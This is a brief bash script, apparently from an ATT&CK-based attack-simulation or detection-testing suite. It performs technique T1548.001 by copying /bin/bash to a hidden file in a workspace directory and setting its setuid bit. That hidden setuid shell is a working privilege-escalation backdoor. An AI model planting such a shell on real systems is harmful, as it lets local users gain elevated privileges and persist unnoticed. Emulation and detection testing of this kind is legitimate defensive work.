#!/usr/bin/env bash
# attack: T1548.001 Set the setuid bit on a copied shell (chmod u+s)
. "$(dirname "$0")/lib/common.sh"
cp /bin/bash "$SW/.sh"
chmod u+s "$SW/.sh"
